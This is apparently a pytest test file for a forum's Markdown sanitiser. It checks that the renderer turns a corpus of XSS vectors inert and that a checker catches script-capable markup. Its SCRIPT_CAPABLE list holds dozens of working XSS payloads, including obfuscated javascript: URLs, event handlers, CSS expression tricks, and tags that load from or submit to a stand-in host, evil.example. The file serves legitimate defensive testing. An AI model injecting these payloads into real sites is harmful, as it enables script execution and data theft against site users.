"""A public corpus of 7,012 XSS vectors (tests/data/xss-vectors/), in every place a member can
put text in Markdown, renders to HTML that cannot run script.

Each vector is rendered on its own, by the one renderer every member's Markdown goes through
(communities.forum.rendering.render_post: posts, replies, edits, previews and the case-study
texts), and checked as it is shown: as stored for posts, and through Wagtail's rich text
filter for case studies. tests/xss.py says what counts as script-capable; the first tests
here show that it does catch such markup, including the corpus itself unsanitised.
"""

import pytest
from wagtail.templatetags.wagtailcore_tags import richtext

from communities.forum.rendering import render_post
from communities.library.submissions import markdown_to_rich_text
from tests.factories import ThreadFactory
from tests.xss import corpus, script_capable_markup

# Rendering looks mentioned handles up in the database.
pytestmark = pytest.mark.django_db

# Where in a member's Markdown a vector can sit; "{}" is the vector.
CONTEXTS = {
    "raw": "{}",
    "link text": "[{}](https://example.org/)",
    "link URL": "[a link]({})",
    "image alt": "![{}](https://example.org/map.png)",
    "image src": "![a map]({})",
    "inline code": "`{}`",
    "heading": "# {}",
    "HTML block": "<div>\n{}\n</div>",
}


# -- the checker catches what it must, and only that --------------------------------------------

SCRIPT_CAPABLE = [
    "<script>alert(1)</script>",
    "<p>ok</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi href="javascript:alert(1)">x</mi></math>',
    "<style>body{background:red}</style>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">x</p>',
    '<details open ONTOGGLE="alert(1)">x</details>',
    "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \tjava\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://example.org/a.png 1x, javascript:alert(1) 2x">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    "<div style=\"background:url( 'JAVASCRIPT:alert(1)' )\">x</div>",
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="width: exp/**/ression(alert(1))">x</p>',
    '<p style="width: \\65 xpression(alert(1))">x</p>',
    '<p style="behavior: url(x.htc)">x</p>',
    '<p style="-moz-binding: url(x.xml#xss)">x</p>',
    "<p style=\"@import 'https://evil.example/x.css'\">x</p>",
    '<p srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    # Comments end where HTML5 says they do, not at the next "-->".
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
]

INERT = [
    "",
    "<p>Plain text</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; and javascript:alert(1) as text</p>",
    '<p><a href="https://example.org/" rel="nofollow ugc noopener">a link</a></p>',
    '<p><a href="mailto:someone@example.org" rel="nofollow ugc noopener">mail</a></p>',
    '<p><a href="/members/mia-member/" class="cp-mention" rel="nofollow ugc noopener">@mia</a></p>',
    '<p><a href="https://example.org/?q=javascript:alert(1)" title="javascript:x">x</a></p>',
    '<p><a href="javascript-guide.html">relative</a></p>',
    "<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>",
    "<h3>onerror=alert(1)</h3><blockquote><p>quoted</p></blockquote>",
    '<ol start="3"><li>one</li></ol><table><tr><td>cell</td></tr></table><hr>',
]


@pytest.mark.parametrize("markup", SCRIPT_CAPABLE)
def test_the_checker_finds_script_capable_markup(markup):
    assert script_capable_markup(markup), f"not caught: {markup!r}"


@pytest.mark.parametrize("markup", INERT)
def test_the_checker_lets_inert_markup_pass(markup):
    assert script_capable_markup(markup) == []


def test_the_checker_finds_the_corpus_dangerous_when_nothing_sanitises_it():
    """Shown as they are, nearly all the vectors would be caught (the rest are inert in a page's
    body: JavaScript for other contexts, table cells outside a table, old IE tricks)."""
    vectors = corpus()
    caught = sum(1 for vector in vectors if script_capable_markup(vector["payload"]))

    assert len(vectors) == 6982  # 7,012 vectors, 6,982 distinct payloads
    assert caught > 0.85 * len(vectors)


# -- the corpus -----------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("context", CONTEXTS)
def test_every_vector_renders_inert(context):
    failures = []
    for vector in corpus():
        text = CONTEXTS[context].format(vector["payload"])
        post_html = render_post(text).html
        shown = {"post": post_html, "case study": str(richtext(post_html))}
        for where, html in shown.items():
            if problems := script_capable_markup(html):
                failures.append(f"{vector['id']} ({where}): {problems} in {html!r}")

    assert not failures, f"{len(failures)} not inert, for example:\n" + "\n".join(failures[:10])


def test_posts_previews_and_case_studies_all_use_the_sanitising_renderer(client, forum, member):
    """Vectors from across the corpus through each way in: a post saved, a preview of a reply
    (through the form, which strips the text) and a case study's texts. Each is exactly what
    render_post makes, and inert."""
    thread = ThreadFactory(community=forum, author=member, opening_post="Opening")
    # Without "@": a mention of nobody is refused by the form before any preview.
    sample = [vector["payload"].strip() for vector in corpus()[::175]]
    sample = [text for text in sample if text and "@" not in text]
    assert len(sample) > 30
    client.force_login(member)

    for number, text in enumerate(sample, start=2):
        expected = render_post(text).html
        assert script_capable_markup(expected) == []

        post = thread.posts.create(author=member, number=number, body_markdown=text)
        assert post.body_html == expected
        assert markdown_to_rich_text(text) == expected
        preview = client.post(
            f"/communities/data/discussions/{thread.pk}-{thread.slug}/reply/",
            {"body": text, "preview": "1"},
        )
        assert preview.status_code == 200
        assert f'<div class="cp-prose">{expected}</div>' in preview.content.decode(), text
